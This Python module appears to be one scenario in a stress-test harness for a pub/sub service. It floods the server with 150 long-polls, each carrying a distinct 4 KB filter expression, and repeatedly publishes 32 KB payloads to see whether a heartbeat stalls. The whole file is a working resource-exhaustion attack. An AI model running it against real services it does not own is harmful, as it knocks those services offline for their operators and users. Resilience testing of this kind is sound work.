"""S1: filters that cost much, asked of every event."""

import json
import re

from hostile.attack import Attack
from hostile.crowd import Crowd
from rest import quoted

POLLS = 150
CURSOR = re.compile(rb'"t":"(\d{17})"')
#: What a filter may have.
FILTER_BYTES = 4096


class Filters(Attack):
    """One publish of 32 KB to 150 polls with 4 KB of filter each: no beat for 15 s."""

    name, title = "S1", "150 polls with 4 KB of filter, 32 KB payloads"

    @staticmethod
    def filter(number):
        """Different from all others, so that no two are asked as one."""
        text = f"data like '*b{number}*'"
        while len(text) + 22 <= FILTER_BYTES:
            text += f"||data like'*b{len(text):05}*'"
        return text

    def strike(self, target, stop):
        payload = json.dumps("a" * 30_000).encode()
        publish = target.post(f"/publish/pub/{target.sub}/0/bomb/0?uuid=m", payload)
        filters = [quoted(self.filter(number)) for number in range(POLLS)]

        def poll(peer):
            cursor = CURSOR.search(peer.chunk)
            cursor = cursor[1].decode() if cursor else "0"
            return target.get(f"/v2/subscribe/{target.sub}/bomb/0?uuid=m{peer.number}&tt={cursor}"
                              f"&filter-expr={filters[peer.number]}")

        polls = Crowd(POLLS, lambda _: target.socket(), poll)
        publisher = Crowd(1, lambda _: target.socket(), lambda _: publish)
        polls.run(stop, lambda: polls.counts.get("200", 0) >= POLLS)
        while not stop.is_set():
            before = publisher.counts.get("200", 0)
            publisher.run(stop, lambda: publisher.counts.get("200", 0) > before)
            polls.run(stop, iter([False, True, True]).__next__)
        return {"publishes": publisher.counts.get("200", 0), "polls": polls.counts.get("200", 0)}
